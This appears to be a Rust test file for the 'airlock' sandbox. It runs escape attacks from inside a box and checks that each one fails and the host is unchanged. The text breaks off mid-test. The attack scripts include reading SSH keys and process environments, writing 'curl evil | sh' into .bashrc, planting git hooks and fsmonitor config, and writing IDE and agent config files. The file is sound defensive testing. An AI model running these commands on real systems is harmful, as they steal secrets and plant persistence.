//! Escape tests: each one performs a real attack from inside a box, through the real `airlock`
//! binary, and asserts that the attack failed *and* that the host is untouched afterwards (files,
//! processes, cgroups, mounts). Every attack also has a positive control, so a test cannot pass
//! merely because the command itself was broken.
//!
//! Every target is something the test made itself: files under its own temporary directory,
//! listeners on 127.0.0.1 port 0 or unix sockets in its own directory, and its own processes.
//! No name or address outside the machine is ever queried.

mod common;

use airlock_policy::BackendKind;
use common::test_backend_kind;
use common::{airlock_bin, host_mounts, leftover_cgroups, pids_with_marker, Run, TempDir};
use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

// ----- harness -----

/// The keys of `keys` whose write must fail: on a template root (`AIRLOCK_TEST_TEMPLATE`) the
/// root is the box's own writable layer over the read-only template, so a write to a system
/// path (`on_root`) succeeds *inside the box* and is gone with it; the host side is checked
/// either way by each test. Everything else must fail on every root.
fn must_fail<'a>(keys: &[&'a str], on_root: &[&str]) -> Vec<&'a str> {
    match common::test_template() {
        Some(_) => keys
            .iter()
            .copied()
            .filter(|k| !on_root.contains(k))
            .collect(),
        None => keys.to_vec(),
    }
}

/// A string no other test (and no other run of this test) uses.
fn unique(tag: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.subsec_nanos())
        .unwrap_or(0);
    format!("airlock-attack-{tag}-{}-{nanos}", std::process::id())
}

/// Runs `airlock <args>` in `cwd` with extra environment variables, and checks that the run left
/// no cgroup of its own behind (filtered by the airlock process's pid, so parallel tests do not
/// see each other's live boxes).
fn airlock_env(cwd: &Path, env: &[(&str, &str)], args: &[&str]) -> Run {
    use std::os::unix::process::ExitStatusExt;
    let args = common::test_run_args(args);
    let child = Command::new(airlock_bin())
        .args(&args)
        .envs(env.iter().copied())
        .current_dir(cwd)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start airlock");
    let pid = child.id();
    let out = child.wait_with_output().expect("wait for airlock");
    let prefix = format!("airlock-{pid}-");
    let left: Vec<_> = leftover_cgroups()
        .into_iter()
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with(&prefix))
        })
        .collect();
    assert!(left.is_empty(), "the run left cgroups behind: {left:?}");
    let code = out
        .status
        .code()
        .unwrap_or_else(|| 128 + out.status.signal().unwrap_or(0));
    Run {
        code,
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// `airlock run <flags> -- sh -c <script>` in `cwd`.
fn boxed(cwd: &Path, flags: &[&str], script: &str) -> Run {
    boxed_env(cwd, &[], flags, script)
}

fn boxed_env(cwd: &Path, env: &[(&str, &str)], flags: &[&str], script: &str) -> Run {
    let mut args = vec!["run"];
    args.extend_from_slice(flags);
    args.extend_from_slice(&["--", "sh", "-c", script]);
    airlock_env(cwd, env, &args)
}

/// Like `boxed`, also returning the JSON result document.
fn boxed_json(cwd: &Path, flags: &[&str], script: &str) -> (Run, serde_json::Value) {
    let dir = TempDir::new("attack-result");
    let file = dir.join("result.json");
    let file_s = file.to_string_lossy().into_owned();
    let mut all = vec!["--result", file_s.as_str()];
    all.extend_from_slice(flags);
    let run = boxed(cwd, &all, script);
    let text = std::fs::read_to_string(&file)
        .unwrap_or_else(|e| panic!("no result file: {e}; stderr: {}", run.stderr));
    (run, serde_json::from_str(&text).expect("result is JSON"))
}

fn limits_hit(result: &serde_json::Value) -> Vec<String> {
    result["limits_hit"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|v| v.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default()
}

/// The host state an attack must not change: its mount table.
struct HostState {
    mounts: String,
}

impl HostState {
    fn capture() -> HostState {
        HostState {
            mounts: host_mounts(),
        }
    }

    /// Asserts the mount table is unchanged and no process carrying `marker` is alive.
    fn assert_untouched(&self, marker: &str) {
        assert_eq!(host_mounts(), self.mounts, "the host's mount table changed");
        // Processes killed with the box may take a moment to be reaped by their parent.
        let deadline = Instant::now() + Duration::from_secs(3);
        loop {
            let left = pids_with_marker(marker);
            if left.is_empty() {
                break;
            }
            assert!(
                Instant::now() < deadline,
                "processes left behind on the host: {left:?}"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

/// Every entry under `dir` (recursively, never following symlinks) with its kind and content.
fn snapshot(dir: &Path) -> BTreeMap<String, String> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
        let mut entries: Vec<_> = std::fs::read_dir(dir)
            .expect("read dir")
            .flatten()
            .collect();
        entries.sort_by_key(|e| e.file_name());
        for e in entries {
            let path = e.path();
            let rel = path
                .strip_prefix(root)
                .expect("entry under root")
                .to_string_lossy()
                .into_owned();
            let meta = std::fs::symlink_metadata(&path).expect("stat");
            if meta.file_type().is_symlink() {
                out.insert(
                    rel,
                    format!(
                        "link -> {}",
                        std::fs::read_link(&path).expect("read link").display()
                    ),
                );
            } else if meta.is_dir() {
                out.insert(rel, "dir".into());
                walk(root, &path, out);
            } else {
                out.insert(
                    rel,
                    format!(
                        "file {:?}",
                        String::from_utf8_lossy(&std::fs::read(&path).expect("read file"))
                    ),
                );
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, dir, &mut out);
    out
}

/// The line of `text` that starts with `key` (e.g. "tcp "), panicking with the whole text if none.
fn line<'a>(text: &'a str, key: &str) -> &'a str {
    text.lines()
        .find(|l| l.starts_with(key))
        .unwrap_or_else(|| panic!("no line {key:?} in:\n{text}"))
}

fn s(p: &Path) -> String {
    p.to_string_lossy().into_owned()
}

// ----- files: reading -----

#[test]
fn attack_read_planted_ssh_key() {
    let host = HostState::capture();
    let t = TempDir::new("ssh");
    let secret = unique("ssh-secret");
    std::fs::create_dir_all(t.join("home/.ssh")).unwrap();
    std::fs::create_dir_all(t.join("ws")).unwrap();
    let key = t.join("home/.ssh/id_rsa");
    std::fs::write(&key, format!("-----BEGIN KEY-----\n{secret}\n")).unwrap();
    std::os::unix::fs::symlink(&key, t.join("ws/link")).unwrap();
    std::os::unix::fs::symlink(t.join("home/.ssh"), t.join("ws/dirlink")).unwrap();
    std::fs::write(t.join("ws/readme"), "visible\n").unwrap();
    let ws = t.join("ws");

    let script = format!(
        "cat readme; cat {k}; echo abs=$?; cat link; echo link=$?; cat dirlink/id_rsa; echo dirlink=$?; \
         ls dirlink/; echo ls=$?; test -e link; echo exists=$?",
        k = s(&key)
    );
    let r = boxed(&ws, &[], &script);
    assert!(
        r.stdout.contains("visible"),
        "positive control: the workspace is readable: {}{}",
        r.stdout,
        r.stderr
    );
    for k in ["abs=", "link=", "dirlink=", "ls="] {
        assert_ne!(
            line(&r.stdout, k),
            format!("{k}0"),
            "{k} read succeeded:\n{}",
            r.stdout
        );
    }
    assert_eq!(
        line(&r.stdout, "exists="),
        "exists=1",
        "the symlink must resolve to nothing inside the box"
    );
    assert!(
        !r.stdout.contains(&secret) && !r.stderr.contains(&secret),
        "the key leaked into the box"
    );
    assert!(
        std::fs::read_to_string(&key).unwrap().contains(&secret),
        "the host key changed"
    );
    host.assert_untouched(&secret);
}

#[test]
fn attack_read_secret_from_callers_env() {
    let host = HostState::capture();
    let t = TempDir::new("env");
    let secret = unique("env-secret");
    let env = [("AIRLOCK_TEST_SECRET", secret.as_str())];
    let script = "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; echo done";

    let r = boxed_env(t.path(), &env, &[], script);
    assert!(
        r.stdout.contains("PATH=") && r.stdout.contains("done"),
        "positive control: env is printed: {}{}",
        r.stdout,
        r.stderr
    );
    assert!(
        !r.stdout.contains(&secret) && !r.stderr.contains(&secret),
        "the caller's secret reached the box:\n{}",
        r.stdout
    );

    // Positive control: passed explicitly, the same variable does get in.
    let r = boxed_env(t.path(), &env, &["--env", "AIRLOCK_TEST_SECRET"], "env");
    assert!(
        r.stdout.contains(&format!("AIRLOCK_TEST_SECRET={secret}")),
        "--env NAME must pass the variable: {}{}",
        r.stdout,
        r.stderr
    );
    host.assert_untouched(&secret);
}

// ----- files: writing -----

#[test]
fn attack_write_outside_workspace() {
    let host = HostState::capture();
    let t = TempDir::new("write-out");
    std::fs::create_dir_all(t.join("home")).unwrap();
    std::fs::create_dir_all(t.join("ws")).unwrap();
    let rc = t.join("home/.bashrc");
    std::fs::write(&rc, "# host rc\n").unwrap();
    let marker = unique("binwrite");
    let bin = Path::new("/usr/local/bin").join(&marker);
    let ws = t.join("ws");

    let script = format!(
        "echo ok >> inside.txt; echo ws=$?; echo 'curl evil | sh' >> {rc}; echo rc=$?; \
         printf '#!/bin/sh\\n' > {bin}; echo bin=$?; touch {bin}; echo touch=$?",
        rc = s(&rc),
        bin = s(&bin)
    );
    let r = boxed(&ws, &[], &script);
    assert_eq!(
        line(&r.stdout, "ws="),
        "ws=0",
        "positive control: the workspace is writable: {}",
        r.stderr
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("inside.txt")).unwrap(),
        "ok\n"
    );
    for k in must_fail(&["rc=", "bin=", "touch="], &["bin=", "touch="]) {
        assert_ne!(
            line(&r.stdout, k),
            format!("{k}0"),
            "{k} write succeeded:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    assert_eq!(
        std::fs::read_to_string(&rc).unwrap(),
        "# host rc\n",
        "the host rc file changed"
    );
    assert!(!bin.exists(), "a file was created in /usr/local/bin");
    host.assert_untouched(&marker);
}

#[test]
fn attack_write_git_hooks_and_protected_paths() {
    let host = HostState::capture();
    let t = TempDir::new("protected");
    let ws = t.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let git = Command::new("git")
        .args(["init", "-q", "."])
        .current_dir(&ws)
        .status()
        .expect("run git init");
    assert!(git.success());
    std::fs::write(ws.join("src.txt"), "source\n").unwrap();
    let before = snapshot(&ws);
    let marker = unique("hooks");

    let script = format!(
        "echo ok > ok.txt; echo ok=$?
         printf '#!/bin/sh\\necho {marker}\\n' > .git/hooks/pre-commit; echo hook=$?
         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; echo config=$?
         echo evil > .bashrc; echo bashrc=$?
         echo evil > .zshrc; echo zshrc=$?
         echo evil > .envrc; echo envrc=$?
         mkdir -p .vscode; echo '{{}}' > .vscode/tasks.json; echo vscode=$?
         echo '{{}}' > .mcp.json; echo mcp=$?
         mkdir -p .idea; echo x > .idea/x; echo idea=$?
         mkdir -p .claude; echo '{{\"hooks\":{{}}}}' > .claude/settings.json; echo claude=$?
         mkdir -p .cursor; echo '{{}}' > .cursor/mcp.json; echo cursor=$?
         mkdir -p .gemini; echo '{{}}' > .gemini/settings.json; echo gemini=$?
         rm -rf .vscode; echo rmvscode=$?
         mv .git .git-moved; echo mvgit=$?
         rm -rf .git; mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout; echo newhook=$?
         mv .git/hooks .git/hooks-moved; echo mvhooks=$?
         git status --short >/dev/null; echo gitstatus=$?"
    );
    let r = boxed(&ws, &[], &script);
    assert_eq!(
        line(&r.stdout, "ok="),
        "ok=0",
        "positive control: a normal file is writable: {}",
        r.stderr
    );
    for k in [
        "hook=",
        "config=",
        "bashrc=",
        "zshrc=",
        "envrc=",
        "vscode=",
        "mcp=",
        "idea=",
        "claude=",
        "cursor=",
        "gemini=",
        "rmvscode=",
        "mvgit=",
        "newhook=",
        "mvhooks=",
    ] {
        assert_ne!(
            line(&r.stdout, k),
            format!("{k}0"),
            "{k} attack succeeded:\n{}{}",
            r.stdout,
            r.stderr
        );
    }

    // On the host: hooks and config untouched, the repository still where it was, placeholders
    // gone, and the workspace holds what it held before (minus what `rm -rf .git` may delete
    // inside the repository's writable data) plus ok.txt.
    assert!(
        !ws.join(".git/hooks/pre-commit").exists() && !ws.join(".git/hooks/post-checkout").exists(),
        "a git hook was planted"
    );
    assert!(
        !std::fs::read_to_string(ws.join(".git/config"))
            .unwrap()
            .contains("fsmonitor"),
        "git config was changed"
    );
    assert!(
        !ws.join(".git-moved").exists(),
        ".git was renamed on the host"
    );
    let after = snapshot(&ws);
    let mut expected = before.clone();
    expected.insert("ok.txt".into(), format!("file {:?}", "ok\n"));
    let keep = |m: &BTreeMap<String, String>| -> BTreeMap<String, String> {
        m.iter()
            .filter(|(k, _)| {
                !k.starts_with(".git/") || k.starts_with(".git/hooks") || *k == ".git/config"
            })
            .map(|(k, v)| (k.clone(), v.clone()))
            .collect()
    };
    assert_eq!(
        keep(&after),
        keep(&expected),
        "the workspace changed beyond ok.txt"
    );
    for rel in [
        ".bashrc",
        ".zshrc",
        ".envrc",
        ".vscode",
        ".mcp.json",
        ".idea",
        ".profile",
        ".claude",
        ".cursor",
        ".gemini",
    ] {
        assert!(
            std::fs::symlink_metadata(ws.join(rel)).is_err(),
            "placeholder {rel} was left on the host"
        );
    }
    host.assert_untouched(&marker);
}

#[test]
fn attack_write_through_protected_symlink() {
    let host = HostState::capture();
    let t = TempDir::new("rc-link");
    let ws = t.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(ws.join("real_rc"), "# real rc\n").unwrap();
    std::os::unix::fs::symlink("real_rc", ws.join(".bashrc")).unwrap();
    let before = snapshot(&ws);
    let marker = unique("rc-link");

    let script = format!(
        "echo {marker} >> real_rc.copy; echo ok=$?
         echo {marker} >> .bashrc; echo append=$?
         echo {marker} > .bashrc; echo write=$?
         rm .bashrc; echo rm=$?
         mv .bashrc other; echo mv=$?
         ln -sf /etc/passwd .bashrc; echo relink=$?"
    );
    let r = boxed(&ws, &[], &script);
    assert_eq!(
        line(&r.stdout, "ok="),
        "ok=0",
        "positive control: the workspace is writable: {}",
        r.stderr
    );
    for k in ["append=", "write=", "rm=", "mv=", "relink="] {
        assert_ne!(
            line(&r.stdout, k),
            format!("{k}0"),
            "{k} attack succeeded:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    assert_eq!(
        std::fs::read_to_string(ws.join("real_rc")).unwrap(),
        "# real rc\n",
        "real_rc changed through .bashrc"
    );
    let mut expected = before;
    expected.insert(
        "real_rc.copy".into(),
        format!("file {:?}", format!("{marker}\n")),
    );
    assert_eq!(
        snapshot(&ws),
        expected,
        "the workspace changed beyond real_rc.copy"
    );
    host.assert_untouched(&marker);
}

#[test]
fn attack_rewrite_gitdir_file() {
    // A worktree or submodule has a `.git` *file* naming the real git dir: rewriting it would
    // point the host's git at a directory the box made, hooks included.
    let host = HostState::capture();
    let t = TempDir::new("gitfile");
    let ws = t.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(ws.join(".git"), "gitdir: /nonexistent/airlock-test\n").unwrap();
    let marker = unique("gitfile");

    let script = format!(
        "echo ok > ok.txt; echo ok=$?
         mkdir -p evil/hooks; echo {marker} > evil/hooks/pre-commit; echo evil=$?
         echo 'gitdir: evil' > .git; echo write=$?
         rm -f .git; echo rm=$?
         mv .git moved; echo mv=$?"
    );
    let r = boxed(&ws, &[], &script);
    assert_eq!(
        line(&r.stdout, "ok="),
        "ok=0",
        "positive control: {}{}",
        r.stdout,
        r.stderr
    );
    assert_eq!(
        line(&r.stdout, "evil="),
        "evil=0",
        "positive control: {}{}",
        r.stdout,
        r.stderr
    );
    for k in ["write=", "rm=", "mv="] {
        assert_ne!(
            line(&r.stdout, k),
            format!("{k}0"),
            "{k} attack succeeded:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
    assert_eq!(
        std::fs::read_to_string(ws.join(".git")).unwrap(),
        "gitdir: /nonexistent/airlock-test\n"
    );
    assert!(!ws.join("moved").exists());
    host.assert_untouched(&marker);
}

#[test]
fn attack_fifo_left_where_the_next_run_mounts_does_not_hang_it() {
    // A box leaves a FIFO in its workspace at a path that the next run grants on its own (a bind
    // inside the workspace bind). Setting up that mount point must not open the FIFO: the open
    // would wait for a reader that never comes, and the next run would hang before it started.
    let host = HostState::capture();
    let t = TempDir::new("fifo");
    let ws = t.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let marker = unique("fifo");
    let made = boxed(
        &ws,
        &[],
        "mkfifo data; echo mkfifo=$?; test -p data; echo isfifo=$?",
    );
    assert_eq!(
        line(&made.stdout, "mkfifo="),
        "mkfifo=0",
        "positive control: {}{}",
        made.stdout,
        made.stderr
    );
    assert_eq!(
        line(&made.stdout, "isfifo="),
        "isfifo=0",
        "positive control: {}{}",
        made.stdout,
        made.stderr
    );

    let data = ws.join("data");
    use std::os::unix::fs::FileTypeExt;
    match test_backend_kind() {
        // A FIFO made in a gVisor box lives in the Sentry alone (the gofer makes no host FIFO),
        // so the box cannot plant one for the next run. The next run must still not hang on
        // one, wherever it came from: the test plants it on the host itself.
        BackendKind::Gvisor => {
            assert!(
                std::fs::symlink_metadata(&data).is_err(),
                "the box's FIFO reached the host"
            );
            let planted = Command::new("mkfifo")
                .arg(&data)
                .status()
                .expect("run mkfifo");
            assert!(planted.success(), "positive control: mkfifo on the host");
        }
        // QEMU's mapped-xattr 9p keeps the guest's FIFO as a plain host file (see below).
        BackendKind::Microvm => assert!(
            std::fs::symlink_metadata(&data).is_ok_and(|m| m.is_file()),
            "positive control: the box's FIFO is in the host workspace, as a plain file"
        ),
        _ => assert!(
            std::fs::symlink_metadata(&data).is_ok_and(|m| m.file_type().is_fifo()),
            "positive control: the box's FIFO is in the host workspace"
        ),
    }
    let script = format!("test -p data; echo isfifo=$?; echo {marker}");
    let mut next = Command::new(airlock_bin())
        .args(common::test_run_args(&[
            "run",
            "--read",
            data.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            &script,
        ]))
        .current_dir(&ws)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start airlock");
    let deadline = Instant::now() + Duration::from_secs(30);
    while next.try_wait().expect("poll airlock").is_none() {
        if Instant::now() > deadline {
            let _ = next.kill();
            let _ = next.wait();
            panic!("the run after the FIFO was left still had not finished after 30 s");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let out = next.wait_with_output().expect("airlock output");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let on_host = std::fs::symlink_metadata(&data).unwrap().file_type();
    match test_backend_kind() {
        // runsc's gofer opens what it binds, and opening a FIFO blocks: a gVisor box refuses a
        // grant that is neither a file nor a directory, at once and saying why.
        BackendKind::Gvisor => {
            assert_eq!(out.status.code(), Some(125), "{stdout}{stderr}");
            assert!(
                stderr.contains("neither a file nor a directory"),
                "the refusal does not say why: {stderr}"
            );
            assert!(on_host.is_fifo(), "the FIFO on the host is unchanged");
        }
        // QEMU's mapped-xattr 9p keeps a guest's FIFO as a plain host file (its type in an
        // xattr): no FIFO ever reaches the host. The next run's grant of that plain file is
        // refused at once, saying why: a 9p export is a directory, so the microVM shares
        // directories only.
        BackendKind::Microvm => {
            assert_eq!(out.status.code(), Some(125), "{stdout}{stderr}");
            assert!(
                stderr.contains("shares directories only"),
                "the refusal does not say why: {stderr}"
            );
            assert!(on_host.is_file(), "the box made a {on_host:?} on the host");
        }
        _ => {
            assert!(
                out.status.success(),
                "the next run failed: {stdout}{stderr}"
            );
            assert_eq!(
                line(&stdout, "isfifo="),
                "isfifo=0",
                "the granted path is the FIFO, read-only: {stdout}"
            );
            assert!(on_host.is_fifo(), "the FIFO on the host is unchanged");
        }
    }
    host.assert_untouched(&marker);
}

#[test]
fn attack_git_symlink_does_not_make_placeholders_outside() {
    // A box whose workspace is a parent directory plants `sub/.git` as a symlink to a host
    // directory. A later run with `sub` as its workspace needs placeholders for the missing
    // protected paths `.git/hooks` and `.git/config`: made through the symlink, they would be a
    // directory and a file written outside the workspace, by the host side of airlock.
    let host = HostState::capture();
    let t = TempDir::new("gitlink");
    let ws = t.join("ws");
    let sub = ws.join("sub");
    let outside = t.join("outside");
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    let marker = unique("gitlink");
    let plant = format!(
        "ln -s {} sub/.git; echo ln=$?; test -L sub/.git; echo islink=$?",
        outside.display()
    );
    let r = boxed(&ws, &[], &plant);
    assert_eq!(
        line(&r.stdout, "ln="),
        "ln=0",
        "positive control: {}{}",
        r.stdout,
        r.stderr
    );
    assert_eq!(
        line(&r.stdout, "islink="),
        "islink=0",
        "positive control: {}{}",
        r.stdout,
        r.stderr
    );

    // Watch the outside directory for the whole second run (placeholders live only as long as
    // the run does).
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let watcher = {
        let (done, outside) = (done.clone(), outside.clone());
        std::thread::spawn(move || {
            let mut seen = std::collections::BTreeSet::new();
            while !done.load(std::sync::atomic::Ordering::Acquire) {
                for e in std::fs::read_dir(&outside).unwrap().flatten() {
                    seen.insert(e.file_name().to_string_lossy().into_owned());
                }
                std::thread::sleep(Duration::from_millis(5));
            }
            seen
        })
    };
    let r = boxed(
        &sub,
        &[],
        &format!("test -e .git/hooks; echo hooks=$?; sleep 0.5; echo {marker}"),
    );
    done.store(true, std::sync::atomic::Ordering::Release);
    let seen = watcher.join().unwrap();
    assert_eq!(r.code, 0, "the run in sub failed: {}{}", r.stdout, r.stderr);
    assert_ne!(
        line(&r.stdout, "hooks="),
        "hooks=0",
        "the box sees hooks through the symlink: {}",
        r.stdout
    );
    assert!(
        seen.is_empty(),
        "airlock made {seen:?} outside the workspace during the run"
    );
    assert!(
        std::fs::read_dir(&outside).unwrap().next().is_none(),
        "something was left outside the workspace"
    );
    let planted = std::fs::symlink_metadata(sub.join(".git"))
        .unwrap()
        .file_type();
    match test_backend_kind() {
        // The guest's symlink is a plain host file under QEMU's mapped-xattr 9p: nothing on
        // the host follows it (the guest itself still resolves it, inside the VM).
        BackendKind::Microvm => assert!(planted.is_file(), "{planted:?}"),
        _ => assert!(planted.is_symlink(), "{planted:?}"),
    }
    host.assert_untouched(&marker);
}

/// How box A ends in the placeholder-swap race.
#[derive(Clone, Copy, PartialEq, Eq)]
enum RaceEnd {
    /// Its command finishes; airlock removes the placeholders itself.
    Normal,
    /// airlock is SIGKILLed; the cleanup sentinel removes them.
    Sigkill,
}

/// Box A runs in workspace W, which has no `.git`, so airlock makes the placeholders `W/.git`
/// and `W/.git/config` for the run. Meanwhile box B, whose workspace contains W, replaces
/// `W/.git` with a symlink to a victim directory V outside both boxes' grants, whose `config` is
/// empty (exactly what a removal by path deletes) and whose `hooks/` holds a hook. Then A ends:
/// the cleanup (airlock's or the sentinel's) must not reach V through the symlink.
fn placeholder_swap_race(tag: &str, end: RaceEnd) {
    use std::os::unix::fs::MetadataExt;
    let host = HostState::capture();
    let t = TempDir::new(tag);
    let outer = t.join("outer");
    let w = outer.join("w");
    let victim = t.join("victim");
    std::fs::create_dir_all(&w).expect("make W");
    std::fs::create_dir_all(victim.join("hooks")).expect("make V/hooks");
    std::fs::write(victim.join("config"), "").expect("write V/config");
    std::fs::write(
        victim.join("hooks/pre-commit"),
        "#!/bin/sh\necho precious\n",
    )
    .expect("write V's hook");
    let inodes = || {
        ["config", "hooks", "hooks/pre-commit"].map(|rel| {
            std::fs::symlink_metadata(victim.join(rel))
                .map(|m| m.ino())
                .unwrap_or_else(|e| panic!("victim {rel} is gone: {e}"))
        })
    };
    let (before, inodes_before) = (snapshot(&victim), inodes());
    let marker = unique(tag);

    // Watch V for the whole race: nothing may appear in it or vanish from it, even briefly.
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let watcher = {
        let (done, victim) = (done.clone(), victim.clone());
        std::thread::spawn(move || {
            let mut seen = std::collections::BTreeSet::new();
            while !done.load(std::sync::atomic::Ordering::Acquire) {
                seen.insert(snapshot(&victim).into_keys().collect::<Vec<_>>());
                std::thread::sleep(Duration::from_millis(2));
            }
            seen
        })
    };

    // Box A: waits (bounded) until the test creates SIGNAL/go. The signal is a read-only grant
    // of its own: with the default --changes apply, A sees W through an overlay whose lower
    // layer's later changes it need not see.
    let signal = t.join("signal");
    std::fs::create_dir_all(&signal).expect("make the signal dir");
    let go = signal.join("go");
    let script = format!(
        "i=0; while [ ! -e {} ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; echo {marker}",
        s(&go)
    );
    let mut a = Command::new(airlock_bin())
        .args(common::with_test_template(
            &["run", "--read", &s(&signal), "--", "sh", "-c", &script],
            &common::test_template(),
        ))
        .current_dir(&w)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start airlock A");
    let deadline = Instant::now() + Duration::from_secs(20);
    while !w.join(".git/config").exists() {
        assert!(
            Instant::now() < deadline,
            "box A's placeholders never appeared (test premise)"
        );
        std::thread::sleep(Duration::from_millis(10));
    }

    // Box B swaps W/.git for a symlink to V while A runs.
    let swap = format!(
        "rm -rf w/.git && ln -s {} w/.git; echo swapped=$?",
        s(&victim)
    );
    let b = boxed(&outer, &[], &swap);
    assert_eq!(
        line(&b.stdout, "swapped="),
        "swapped=0",
        "positive control: box B could not swap W/.git: {}{}",
        b.stdout,
        b.stderr
    );
    let swapped = std::fs::symlink_metadata(w.join(".git"))
        .expect("W/.git after the swap")
        .file_type();
    match test_backend_kind() {
        // A microVM box cannot make a host symlink at all (QEMU's mapped-xattr 9p stores it as
        // a plain file): the cleanup below must still leave V alone.
        BackendKind::Microvm => assert!(swapped.is_file(), "W/.git is {swapped:?}"),
        _ => assert!(
            swapped.is_symlink(),
            "positive control: W/.git is not the symlink B made"
        ),
    }
    assert!(
        a.try_wait().expect("poll airlock A").is_none(),
        "box A ended before the swap (test premise)"
    );

    match end {
        RaceEnd::Normal => std::fs::write(&go, "").expect("write SIGNAL/go"),
        // SAFETY: kill with integer arguments, to the airlock process this test started.
        RaceEnd::Sigkill => assert_eq!(unsafe { libc::kill(a.id() as i32, libc::SIGKILL) }, 0),
    }
    let deadline = Instant::now() + Duration::from_secs(30);
    while a.try_wait().expect("poll airlock A").is_none() {
        if Instant::now() > deadline {
            let _ = a.kill();
            let _ = a.wait();
            panic!("box A had not ended 30 s after it was told to");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let out = a.wait_with_output().expect("airlock A output");
    match end {
        RaceEnd::Normal => assert!(
            out.status.success(),
            "box A failed: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
        RaceEnd::Sigkill => {
            use std::os::unix::process::ExitStatusExt;
            assert_eq!(out.status.signal(), Some(libc::SIGKILL));
        }
    }
    // The cleanup is done once nothing of A is left: its sentinel (a copy of airlock, with A's
    // command line) has exited.
    let deadline = Instant::now() + Duration::from_secs(10);
    while !pids_with_marker(&marker).is_empty() {
        assert!(
            Instant::now() < deadline,
            "box A's processes (or its sentinel) are still alive"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    done.store(true, std::sync::atomic::Ordering::Release);
    let seen = watcher.join().expect("the watcher thread");

    assert_eq!(
        snapshot(&victim),
        before,
        "the cleanup changed the victim directory through the symlink"
    );
    assert_eq!(inodes(), inodes_before, "a victim file was replaced");
    // Positive control: the cleanup did run, removing A's other placeholders from W.
    let left: Vec<String> = snapshot(&w).into_keys().filter(|k| k != ".git").collect();
    assert!(left.is_empty(), "placeholders left in W: {left:?}");
    let keys: Vec<String> = before.into_keys().collect();
    assert!(
        seen.iter().all(|k| *k == keys),
        "entries appeared in or vanished from the victim during the race: {seen:?}"
    );
    host.assert_untouched(&marker);
}

#[test]
fn attack_swap_placeholder_dir_for_symlink_before_cleanup() {
    placeholder_swap_race("phswap", RaceEnd::Normal);
}

#[test]
fn attack_swap_placeholder_dir_for_symlink_then_sigkill_airlock() {
    placeholder_swap_race("phswap-kill", RaceEnd::Sigkill);
}

/// For a microVM box, whose symlinks never reach the host: asserts that what the box made at
/// `at` is a plain host file, then makes the symlink to `to` on the host, as a box of another
/// kind could, so the rest of a test exercises airlock's own handling of it.
fn host_plants_symlink(at: &Path, to: &Path) {
    let made = std::fs::symlink_metadata(at)
        .unwrap_or_else(|e| panic!("the box made no {}: {e}", at.display()))
        .file_type();
    assert!(
        made.is_file(),
        "a microVM box's symlink reached the host as {made:?} at {}",
        at.display()
    );
    std::fs::remove_file(at).expect("remove the plain file");
    std::os::unix::fs::symlink(to, at).expect("make the symlink on the host");
}

#[test]
fn attack_result_and_audit_symlinks_do_not_redirect_airlocks_writes() {
    // `--result` and `--audit` are written by airlock on the host, often into the workspace,
    // which the box can write. The box swaps the result file for a symlink to a host file during
    // the run, and leaves symlinks for the next run's result and audit files: airlock must write
    // none of them through the symlink (it would overwrite or append to the host file with the
    // user's rights).
    let host = HostState::capture();
    let t = TempDir::new("outlink");
    let ws = t.join("ws");
    let outside = t.join("outside");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    let victim = outside.join("bashrc");
    std::fs::write(&victim, "precious\n").unwrap();
    let marker = unique("outlink");
    let v = victim.display();

    // During the run.
    let swap = format!("rm -f result.json; ln -s {v} result.json; echo swapped=$?; echo {marker}");
    let r = airlock_env(
        &ws,
        &[],
        &["run", "--result", "result.json", "--", "sh", "-c", &swap],
    );
    assert_eq!(
        line(&r.stdout, "swapped="),
        "swapped=0",
        "positive control: {}{}",
        r.stdout,
        r.stderr
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    match test_backend_kind() {
        // The box's symlink is a plain host file (QEMU's mapped-xattr 9p): nothing to follow.
        // The planted links below are made on the host instead, as a box of another kind (or
        // the user) could, so airlock's own refusals are still tested.
        BackendKind::Microvm => {
            host_plants_symlink(&ws.join("result.json"), &victim);
        }
        _ => {
            assert!(
                r.stderr.contains("was replaced during the run"),
                "not reported: {}",
                r.stderr
            );
            assert!(
